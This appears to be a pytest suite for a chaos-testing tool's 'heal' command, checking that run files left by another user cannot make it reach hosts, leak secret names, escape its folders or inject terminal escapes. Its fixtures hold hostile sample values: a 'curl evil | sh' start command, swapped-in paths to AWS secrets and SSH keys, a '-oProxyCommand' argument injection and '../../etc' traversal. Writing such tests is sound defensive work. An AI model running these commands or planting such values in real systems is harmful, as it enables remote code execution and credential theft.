"""What heals on hosts and in clusters of others comes from the user's state folder, never from a run's directory."""

from __future__ import annotations

import json
import os
from base64 import b64encode
from collections.abc import Iterator, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from chaos.errors import DeploymentError, MachineError
from chaos.experiment.attached import Running
from chaos.experiment.inventory import KNOWN_HOSTS, Host
from chaos.history import directory as store
from chaos.machines.attach import host_left
from chaos.machines.attach import left as project_left
from chaos.machines.attach.host_left import ProgramsLeft
from chaos.machines.attach.left import ProjectLeft
from chaos.machines.healing import left as lefts
from chaos.machines.healing import marks, state
from chaos.machines.healing.left import Left
from chaos.machines.ssh import heal as ssh_heal
from chaos.machines.ssh.heal import HostsLeft
from stormproof.cli import _run
from stormproof.commands import _healing
from stormproof.launch import unmarked
from tests.stormproof.test_healing import GONE, a_run, joined

MINE = Host(host="10.0.0.11", name="h0", user="chaos", key="~/.ssh/mine", sudo_password_env="CHAOS_SUDO")
EVIL = "\x1b[2J\x1b[32mVALID"
START = Running(pid=("cat", "/run/x.pid"), start=("sh", "-c", "curl evil | sh"))
#: What a run may have left, by the deployment that heals it.
LEFT: Mapping[str, Left] = {
    "ssh": HostsLeft(tag="storm-0", harness=GONE, hosts=(MINE,), placed={"broker-0": "h0"}),
    "programs": ProgramsLeft(
        tag="storm-0",
        harness=GONE,
        hosts=(MINE,),
        placed={"queue-0": "h0"},
        programs={"queue-0": START},
        names={"queue-0": "x"},
        held=("queue-0",),
        cuts=True,
    ),
    "project": ProjectLeft(harness=GONE, project="shop", containers={"queue-0": "a" * 64}, held=("queue-0",)),
}
KINDS = sorted(LEFT)


@pytest.fixture(autouse=True)
def own_state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    monkeypatch.setattr(_healing, "EVERYWHERE", tmp_path)  # other runs here are none of our business
    with state.using(tmp_path / "state"):
        yield tmp_path / "state"


@pytest.fixture
def reached(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    """The hosts, and the engine, that somebody tried to reach; none answers."""
    seen: list[Any] = []

    class Silent:
        def __init__(self, host: Host, tag: str, code: object) -> None:
            self._host = host

        def connect(self) -> None:
            seen.append(self._host)
            raise DeploymentError(f"host {self._host.name} does not answer")

        def close(self) -> None:
            pass

    def no_engine() -> None:
        seen.append("engine")
        raise MachineError("no engine")

    monkeypatch.setattr(ssh_heal, "SshHost", Silent)
    monkeypatch.setattr(host_left, "SshHost", Silent)
    monkeypatch.setattr(project_left, "connect", no_engine)
    return seen


def deployment(kind: str) -> str:
    return LEFT[kind].DEPLOYMENT


def of_a_stranger(run: Path, kind: str, *, sealed: bool) -> Path:
    """A run as a colleague's archive might hold it: all is as written, and no mark of this user's tells of it."""
    a_run(run, deployment=deployment(kind), state=store.RUNNING)
    with state.using(run.parent.parent / "state-of-another"):
        LEFT[kind].write(run)
    path = run / LEFT[kind].FILE
    told = json.loads(path.read_text())
    for host in told.get("hosts", ()):
        host.update(sudo_password_env="AWS_SECRET_ACCESS_KEY", key="~/.ssh/id_rsa", known_hosts="/tmp/evil")
    store.write_json(path, told, sealed=sealed)
    if not sealed:
        (run / "manifest").unlink()
    return run


@pytest.mark.parametrize("sealed", [True, False])
@pytest.mark.parametrize("kind", KINDS)
def test_no_run_of_a_stranger_reaches_a_host(tmp_path, reached, capsys, kind, sealed):
    """The three attacks: commands as root, the value of a variable, and containers, each from a file of the run."""
    run, out = of_a_stranger(tmp_path / "runs" / "evil-0", kind, sealed=sealed), ["--out", str(tmp_path / "runs")]
    assert _run(["heal", *out]) == 0, "the latest run is somebody else's"
    assert "nothing to heal" in capsys.readouterr().out
    for words in (["heal", "evil-0"], ["heal", "--all"]):
        assert _run([*words, *out]) == 3
        said = joined(capsys)
        assert "nothing says that this user made it here" in said and f"`stormproof heal {run} --trust`" in said
    store.write_meta(run, {**store.read_meta(run).json, "state": store.UP})
    assert _run(["down", *out]) == 3 and "--trust" in joined(capsys)
    assert _run(["heal", "--machine", "--yes"]) == 0 and not reached


@pytest.mark.parametrize("kind", KINDS)
def test_what_is_trusted_is_listed_first_and_names_no_secret(tmp_path, reached, capsys, kind):
    run, out = of_a_stranger(tmp_path / "runs" / "a", kind, sealed=True), ["--out", str(tmp_path / "runs")]
    assert _run(["heal", "a", "--trust", *out]) == 3
    told, said = capsys.readouterr()
    assert not reached and marks.read(run) is None and "say --yes" in said
    for secret in ("AWS_SECRET", "id_rsa", "/tmp/evil"):
        assert secret not in told
    if kind == "project":
        assert "container aaaaaaaaaaaa of Compose project shop: start it" in told
    else:
        assert "log in to chaos@10.0.0.11:22" in told
        assert ("sh -c 'curl evil | sh'" if kind == "programs" else ".stormproof/runs/storm-0") in told
    assert _run(["heal", "a", "--trust", "--yes", *out]) == 3, "nobody answers"
    bare = Host(host="10.0.0.11", name="h0", user="chaos", known_hosts=KNOWN_HOSTS)
    assert reached == (["engine"] if kind == "project" else [bare])
    capsys.readouterr()
    assert _run(["heal", *out]) == 3 and len(reached) == 2, "from then on it is like any other run of this user"


def test_an_inventory_of_the_user_s_own_gives_the_keys_that_no_run_may_name(tmp_path, reached, capsys):
    of_a_stranger(tmp_path / "runs" / "a", "ssh", sealed=True)
    (tmp_path / "hosts.yaml").write_text("hosts: [{host: 10.0.0.11, user: chaos, name: x, key: own, jump: bastion}]\n")
    words = ["--inventory", str(tmp_path / "hosts.yaml"), "--out", str(tmp_path / "runs")]
    assert _run(["heal", "a", "--trust", "--yes", *words]) == 3
    assert reached == [Host(host="10.0.0.11", name="h0", user="chaos", key="own", jump="bastion")]
    assert "through bastion" in capsys.readouterr().out


@pytest.mark.parametrize("kind", KINDS)
def test_what_was_altered_or_never_sealed_is_not_even_listed(tmp_path, reached, capsys, kind):
    run = of_a_stranger(tmp_path / "runs" / "a", kind, sealed=False)
    assert _run(["heal", str(run), "--trust", "--yes"]) == 3
    assert "is not what a run writes there" in joined(capsys)
    other = of_a_stranger(tmp_path / "runs" / "b", kind, sealed=True)
    path = other / LEFT[kind].FILE
    path.write_text(path.read_text().replace("queue-0", "queue-1").replace("broker-0", "broker-1"))
    assert _run(["heal", str(other), "--trust", "--yes"]) == 3
    assert "its checksum is wrong" in joined(capsys) and not reached


@pytest.mark.parametrize(
    "changes",
    [
        {"tag": "../../etc"},
        {"tag": 1},
        {"placed": {"../../x": "h0"}},
        {"hosts": [{"host": "-oProxyCommand=x"}]},
        {"hosts": [1]},
        {"hosts": {}},
        {"cleared": "no"},
        {"harness": {}},
    ],
)
def test_what_no_run_can_have_written_is_refused(tmp_path, reached, capsys, changes):
    run = of_a_stranger(tmp_path / "runs" / "a", "ssh", sealed=True)
    store.write_json(run / store.HOSTS, {**json.loads((run / store.HOSTS).read_text()), **changes})
    assert _run(["heal", str(run), "--trust", "--yes"]) == 3
    assert "hosts.json is not what a run writes there" in joined(capsys) and not reached


def test_names_in_a_run_are_no_commands_of_a_terminal(tmp_path, reached, capsys):
    run = of_a_stranger(tmp_path / "runs" / "a", "project", sealed=True)
    left = ProjectLeft(harness=GONE, project=EVIL, containers={EVIL: "b" * 64}, held=(EVIL,))
    with state.using(tmp_path / "state-of-another"):
        left.write(run)
    assert _run(["heal", str(run), "--trust"]) == 3
    told, said = capsys.readouterr()
    assert "VALID" in told and "\x1b" not in told + said


@pytest.mark.parametrize("kind", KINDS)
def test_a_run_heals_from_its_mark_whatever_became_of_its_directory(tmp_path, reached, capsys, kind):
    """A kill between the mark and its copy, an altered file, and a directory that is gone."""
    run, out = a_run(tmp_path / "runs" / "a", deployment=deployment(kind)), ["--out", str(tmp_path / "runs")]
    LEFT[kind].write(run)
    path = run / LEFT[kind].FILE
    for harm in (
        lambda: path.write_text('{"tag'),
        lambda: path.write_text(json.dumps({"cleared": True})),
        path.unlink,
        lambda: (run / store.META).write_text("{"),
        lambda: run.rename(tmp_path / "gone"),
    ):
        harm()
        before = len(reached)
        assert _run(["heal", *out]) == 3
        assert ("no engine" if kind == "project" else "host h0 does not answer") in joined(capsys)
        assert len(reached) == before + 1
    if kind != "project":
        assert {host.key for host in reached} == {MINE.key} and reached[0].sudo_password_env == "CHAOS_SUDO"


@pytest.mark.parametrize("kind", ["programs", "ssh"])
def test_names_of_secrets_are_in_the_state_folder_alone(tmp_path, kind):
    run = a_run(tmp_path / "runs" / "a")
    LEFT[kind].write(run)
    assert type(LEFT[kind]).read(run) == LEFT[kind]
    for name in ("CHAOS_SUDO", "mine"):
        assert not [path for path in run.rglob("*") if name in path.read_text()]


def test_a_kill_between_two_writes_leaves_what_is_newer(tmp_path, monkeypatch):
    """The mark comes before its copy, and goes after it; either alone heals."""
    run, left = a_run(tmp_path / "a"), LEFT["ssh"]
    with monkeypatch.context() as killed:
        killed.setattr(lefts, "write_json", killed_now)
        with pytest.raises(KeyboardInterrupt):
            left.write(run)
    assert HostsLeft.read(run) == left and not (run / store.HOSTS).exists()
    left.write(run)
    with monkeypatch.context() as killed:
        killed.setattr(marks, "remove", killed_now)
        with pytest.raises(KeyboardInterrupt):
            cleared(left).write(run)
    assert HostsLeft.read(run) == left, "nothing is left, and to look once more does no harm"
    cleared(left).write(run)
    assert HostsLeft.read(run) is None and marks.below(tmp_path) == []


@pytest.mark.parametrize(
    "lead",
    [Path.symlink_to, Path.hardlink_to, lambda path, to: path.parent.rmdir() or path.parent.symlink_to(to.parent)],
    ids=["link", "second name", "folder"],
)
def test_what_is_saved_of_a_host_stays_in_the_run(tmp_path, lead):
    """The traces of nodes are fetched while a run is healed, which may be a stranger's that somebody trusts."""
    run, outside = a_run(tmp_path / "run"), tmp_path / "outside" / "n.jsonl"
    outside.parent.mkdir()
    outside.write_text("mine")
    (run / "traces").mkdir()
    lead(run / "traces" / "n.jsonl", outside)

    class Tells:
        def call(self, do: str, **arguments: object) -> dict[str, str]:
            return {"traces/n.jsonl": b64encode(b"evil").decode()}

    with pytest.raises(MachineError, match=r"traces"):
        ssh_heal.fetch(Tells(), ["n"], run)
    assert outside.read_text() == "mine"


def cleared(left: Left) -> Left:
    return replace(left, cleared=True)


def killed_now(*_: object) -> None:
    raise KeyboardInterrupt


def test_the_latest_run_is_the_latest_of_this_user_s_own(tmp_path, reached, capsys):
    mine, other = a_run(tmp_path / "runs" / "mine", deployment="ssh"), tmp_path / "runs" / "evil"
    LEFT["ssh"].write(mine)
    of_a_stranger(other, "ssh", sealed=True)
    os.utime(other / store.META, (2**31, 2**31))
    for words in (["heal"], ["heal", "latest"]):
        assert _run([*words, "--out", str(tmp_path / "runs")]) == 3
    assert reached == [MINE, MINE]


@pytest.mark.parametrize("whose", ["machine", "user"])
def test_a_mark_of_another_machine_or_user_is_none(tmp_path, reached, capsys, monkeypatch, whose):
    run = a_run(tmp_path / "runs" / "a", deployment="ssh")
    with monkeypatch.context() as elsewhere:
        if whose == "machine":
            elsewhere.setattr(marks, "machine", lambda: "another")
        else:
            elsewhere.setattr(marks, "_whose", lambda: {"user": os.getuid() + 1, "machine": marks.machine()})
        LEFT["ssh"].write(run)
    assert marks.read(run) is None and marks.below(tmp_path) == []
    assert _run(["heal", str(run)]) == 3 and "--trust" in joined(capsys) and not reached


def a_link(path: Path) -> None:
    path.with_name("real").mkdir(mode=0o700)
    path.symlink_to(path.with_name("real"))


@pytest.mark.parametrize(
    ("made", "said"),
    [
        (a_link, "it is a link"),
        (lambda path: path.mkdir(mode=0o755), "others may enter it: `chmod 700"),
        (lambda path: path.write_text(""), "File exists"),
        (lambda path: path.with_name("state").symlink_to("/nowhere/at/all"), "File exists"),
    ],
    ids=["link", "mode", "file", "dangling"],
)
def test_a_folder_that_others_may_write_to_is_none(tmp_path, own_state, capsys, made, said):
    made(own_state)
    assert said in state.problem() and "--state DIR" in state.problem()
    assert marks.read(tmp_path) is None
    (tmp_path / "runs").mkdir()
    assert _run(["heal", "--out", str(tmp_path / "runs")]) == 3 and "give a RUN, or --all" in joined(capsys)
    assert _run(["heal", "--all", "--out", str(tmp_path / "runs")]) == 0, "processes carry their own marks"
    assert said in unmarked("process") and unmarked("sim") == ""
    for deployment in ("ssh", "attach"):
        with pytest.raises(MachineError, match="needs the state folder to undo what a killed run did"):
            unmarked(deployment)


def test_a_folder_of_another_user_is_none(own_state, monkeypatch):
    own_state.mkdir(mode=0o700)
    mine = os.getuid()
    monkeypatch.setattr(os, "getuid", lambda: mine + 1)
    assert f"it belongs to user {mine}, and this is user {mine + 1}" in state.problem()


def test_the_folder_is_where_the_system_keeps_such_things(tmp_path, monkeypatch):
    monkeypatch.delenv(state.VARIABLE)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.delenv("XDG_STATE_HOME", raising=False)
    assert state.folder() == tmp_path / "home/.local/state/stormproof"
    assert state.folder().stat().st_mode & 0o777 == 0o700
    monkeypatch.setenv("XDG_STATE_HOME", "relative/is/ignored")
    assert state.place() == tmp_path / "home/.local/state/stormproof"
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "xdg"))
    assert state.place() == tmp_path / "xdg/stormproof"
    monkeypatch.setenv("HOME", "")
    monkeypatch.setenv("XDG_STATE_HOME", "")
    assert "absolute" in state.problem() or state.problem() == ""


STORM = "name: s\nsystem: {reference: {controllers: 1, brokers: 2}}\nduration: 1s\nworkloads: [queue]\n"


def test_a_run_that_nothing_could_undo_is_refused_before_it_begins(tmp_path, capsys, own_state):
    (tmp_path / "s.yaml").write_text(STORM + "hosts: [{host: 10.255.255.1}]\n")
    own_state.mkdir(mode=0o755)
    words = ["run", str(tmp_path / "s.yaml"), "--on", "ssh", "--engine", "local", "--out", str(tmp_path / "runs")]
    assert _run(words) == 3
    said = joined(capsys)
    assert "--on ssh needs the state folder" in said and f"chmod 700 {own_state}" in said
    assert not (tmp_path / "runs").exists()


def test_an_option_names_the_folder(tmp_path, reached, capsys, own_state):
    run, other = a_run(tmp_path / "runs" / "a", deployment="ssh"), tmp_path / "other"
    with state.using(other):
        LEFT["ssh"].write(run)
    out = ["--out", str(tmp_path / "runs")]
    assert _run(["heal", *out]) == 0 and not reached
    assert _run(["heal", *out, "--state", str(other)]) == 3 and reached == [MINE]
    assert state.place() == own_state, "it holds for one command"
